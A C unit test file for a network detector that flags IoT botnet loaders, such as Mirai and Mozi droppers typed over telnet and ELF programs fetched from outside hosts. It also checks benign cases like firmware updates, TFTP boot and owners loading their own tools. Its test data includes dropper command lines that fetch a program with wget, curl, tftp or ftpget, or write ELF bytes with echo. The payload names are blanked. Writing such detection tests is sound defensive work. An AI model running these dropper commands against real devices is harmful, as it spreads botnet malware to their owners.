/* SPDX-License-Identifier: MIT */
/*
 * detect/loader: droppers typed over telnet, programs fetched, and what looks the same at home: updates, TFTP of phones and
 * boot loaders, an owner with programs of his own. Commands stand cut short: what would run is EXAMPLE.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "storied.h"

#define D &detector_loader

static const struct finding *only(struct storied *s, enum weight weight, const char *holds)
{
	return the_finding(s, D, weight, holds);
}

static void types(struct storied *s, struct addr who, const char *line)
{
	told_at(s, SIGNAL_telnet_command, who, 23, PROTO_telnet_id, line);
}

static void test_typed_and_fetched(void **state)
{
	struct storied *s = storied_new(true);
	const struct finding *f;

	(void)state;
	types(s, ABROAD(9), "cd /EXAMPLE; wget http://203.0.113.6/EXAMPLE -O - > EXAMPLE");
	f = only(s, WEIGHT_SIGN,
		 "203.0.113.9 had it fetch a program from 203.0.113.6, over telnet");
	assert_true(is_peer(&f->peer, ABROAD(6)));
	types(s, ABROAD(9), "chmod 777 EXAMPLE");
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/EXAMPLE");
	f = only(s, WEIGHT_PROOF, "then it fetched a program (ELF) from 203.0.113.6");
	assert_int_equal(f->act, ACT_LOADED);
	assert_int_equal(f->role, ROLE_LOADER);
	assert_int_equal(f->keys_n, 3);
	assert_null(f->family);
	storied_free(s);
}

static void test_ways_to_type_it(void **state)
{
	static const char *const droppers[] = {
		"tftp -g -l EXAMPLE -r EXAMPLE 203.0.113.6",
		"/bin/busybox tftp -g -l EXAMPLE -r EXAMPLE 203.0.113.6; EXAMPLE",
		"/bin/busybox wget http://203.0.113.6:80/EXAMPLE",
		"ftpget -v 203.0.113.6 EXAMPLE EXAMPLE",
		"(curl http://203.0.113.6/EXAMPLE||EXAMPLE)",
		"wget http://[2001:db8::6]/EXAMPLE",
		"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46EXAMPLE' > EXAMPLE",
		"echo -en \"\\177\\105\\114\\106EXAMPLE\" >> EXAMPLE",
		"echo -ne '\\x7fELF' > EXAMPLE",
	};
	static const char *const others[] = {
		"wget http://www.example.com/EXAMPLE", /* a name */
		"mywget http://203.0.113.6/EXAMPLE",
		"wget-cache 203.0.113.6",
		"ping 203.0.113.6",
		"wget",
		"wget ",
		"curl 1.2.3",
		"curl --version 203.0.113",
		"echo hello > EXAMPLE",
		"cat '\\x7f\\x45\\x4c\\x46'",
		"chmod 777 EXAMPLE",
		"wget [",
		"wget [203.0.113",
	};

	(void)state;
	for (size_t i = 0; i < sizeof droppers / sizeof *droppers; i++) {
		struct storied *s = storied_new(true);

		types(s, ABROAD(9), droppers[i]);
		if (judge_with(s, D) != 1 || s->out.list[0].weight != WEIGHT_SIGN)
			fail_msg("not seen: %s", droppers[i]);
		storied_free(s);
	}
	for (size_t i = 0; i < sizeof others / sizeof *others; i++) {
		struct storied *s = storied_new(true);

		types(s, ABROAD(9), others[i]);
		if (judge_with(s, D) != 0)
			fail_msg("taken for a dropper: %s", others[i]);
		storied_free(s);
	}
}

static void test_fetched_alone(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/EXAMPLE");
	only(s, WEIGHT_SIGN, "fetched a program (ELF) from 203.0.113.6");
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/bins/mirai.arm7");
	assert_string_equal(only(s, WEIGHT_PROOF, "a program of Mirai")->family, "mirai");
	storied_free(s);
	s = storied_new(true);
	tells_of(s, SIGNAL_elf_raw, ABROAD(6), "tcp 8080");
	only(s, WEIGHT_SIGN, "tcp 8080");
	storied_free(s);
	s = storied_new(true);
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "dropper cdn.example.com/EXAMPLE");
	only(s, WEIGHT_SIGN, "cdn.example.com/EXAMPLE");
	storied_free(s);
}

static void test_updates(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "named updates.example.com/mirai.arm7");
	only(s, WEIGHT_NOTE, "updates.example.com");
	assert_null(s->out.list[0].family);
	storied_free(s);
}

static void test_files_at_home(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	tells_of(s, SIGNAL_file_asked, HOME(2), "pxelinux.0");
	tells_of(s, SIGNAL_file_asked, HOME(2), "mirai.arm7");
	tells_of(s, SIGNAL_file_asked, ABROAD(2), "SEP001122334455.cnf.xml");
	expect_nothing(s, D);
	tells_of(s, SIGNAL_elf_raw, HOME(2), "tftp vmlinux.elf");
	tells_of(s, SIGNAL_elf_fetched, HOME(3), "bare 192.168.1.3/tool");
	assert_int_equal(judge_with(s, D), 2);
	assert_int_equal(s->out.list[0].weight, WEIGHT_NOTE);
	assert_int_equal(s->out.list[1].weight, WEIGHT_NOTE);
	storied_free(s);
	s = storied_new(true); /* a neighbour that is a loader itself */
	tells_of(s, SIGNAL_elf_fetched, HOME(3), "bare 192.168.1.3:4711/Mozi.m");
	assert_string_equal(only(s, WEIGHT_SIGN, "Mozi")->family, "mozi");
	storied_free(s);
}

static void test_tftp_abroad(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	tells_of(s, SIGNAL_file_asked, ABROAD(2), "mirai.arm7");
	only(s, WEIGHT_SIGN, "asked by TFTP");
	tells_of(s, SIGNAL_elf_raw, ABROAD(2), "tftp mirai.arm7");
	only(s, WEIGHT_PROOF, "tftp mirai.arm7");
	storied_free(s);
}

/* Somebody at home puts a program of his own on his camera. */
static void test_owners(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	types(s, HOME(2), "wget http://192.168.1.2/tool");
	tells_of(s, SIGNAL_elf_fetched, HOME(2), "bare 192.168.1.2/tool");
	only(s, WEIGHT_NOTE, "192.168.1.2");
	storied_free(s);
	s = storied_new(true);
	types(s, HOME(2), "wget http://203.0.113.6/tool");
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/tool");
	only(s, WEIGHT_SIGN, "203.0.113.6"); /* never proof … */
	types(s, HOME(2), "/bin/busybox MIRAI");
	only(s, WEIGHT_PROOF, "203.0.113.6"); /* … unless he talks like a loader */
	storied_free(s);
}

static void test_the_order_counts(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/EXAMPLE");
	types(s, ABROAD(9), "wget http://203.0.113.6/EXAMPLE");
	only(s, WEIGHT_SIGN, "203.0.113.6");
	storied_free(s);
}

/* What strangers call their files is shown without signs that could do anything. */
static void test_names_are_plain(void **state)
{
	struct storied *s = storied_new(true);
	const struct finding *f;

	(void)state;
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/a\033[31m<b>%s\"");
	f = only(s, WEIGHT_SIGN, "203.0.113.6/a?[31m?b??s?");
	assert_null(strchr(f->text, '\033'));
	storied_free(s);
}

static void test_many_servers(void **state)
{
	struct storied *s = storied_new(true);

	(void)state;
	for (unsigned i = 0; i < 60; i++)
		tells_of(s, SIGNAL_elf_fetched, ABROAD(i), "bare EXAMPLE");
	assert_int_equal(judge_with(s, D), 8);
	storied_free(s);
}

/* Whatever else is typed and fetched, what was really fetched is found. */
static void test_hidden_among_others(void **state)
{
	struct storied *s = storied_new(true);
	struct finding *f = NULL;
	size_t n;

	(void)state;
	for (unsigned i = 0; i < 20; i++) {
		char line[64];

		snprintf(line, sizeof line, "wget http://203.0.113.%u/EXAMPLE", 100 + i);
		told_at(s, SIGNAL_telnet_command, ABROAD(9), 23, PROTO_telnet_id, line);
		tells_of(s, SIGNAL_elf_fetched, ABROAD(50 + i), "named updates.example/EXAMPLE");
	}
	tells_of(s, SIGNAL_elf_fetched, ABROAD(6), "bare 203.0.113.6/EXAMPLE");
	n = judge_with(s, D);
	for (size_t i = 0; i < n; i++) {
		if (strstr(s->out.list[i].text, "fetched a program (ELF) from 203.0.113.6 ") !=
		    NULL)
			f = &s->out.list[i];
	}
	assert_non_null(f);
	assert_int_equal(f->weight, WEIGHT_SIGN);
	storied_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_typed_and_fetched),
		cmocka_unit_test(test_ways_to_type_it),
		cmocka_unit_test(test_fetched_alone),
		cmocka_unit_test(test_updates),
		cmocka_unit_test(test_files_at_home),
		cmocka_unit_test(test_tftp_abroad),
		cmocka_unit_test(test_owners),
		cmocka_unit_test(test_the_order_counts),
		cmocka_unit_test(test_names_are_plain),
		cmocka_unit_test(test_many_servers),
		cmocka_unit_test(test_hidden_among_others),
	};

	return cmocka_run_group_tests(tests, storied_load, storied_unload);
}
